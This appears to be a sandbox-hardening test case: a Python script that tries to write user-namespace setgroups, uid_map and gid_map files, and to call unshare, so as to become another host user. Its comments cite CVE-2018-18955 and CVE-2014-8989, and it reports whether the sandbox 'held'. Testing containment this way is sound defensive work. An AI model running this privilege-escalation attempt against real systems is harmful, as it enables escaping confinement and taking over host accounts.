# title: write the user namespace's maps to become another user of the host
# wall: seccomp nested_namespaces landlock
# gvisor: seccomp
# source: CVE-2018-18955, CVE-2014-8989
import os
from attack import call, escaped, held


def write(name, text):
    try:
        with open("/proc/self/" + name, "w") as f:
            f.write(text)
        return None
    except OSError as e:
        return e


for name, text in (("setgroups", "allow"), ("uid_map", "0 0 4294967295"), ("gid_map", "0 0 4294967295"), ("uid_map", "0 1000 1")):
    why = write(name, text)
    if why is None:
        escaped("wrote %s" % name)
if call(272, 0x10000000) >= 0:
    if write("uid_map", "0 1000 1") is None:
        escaped("root of a namespace: %d" % os.getuid())
held(why.strerror)
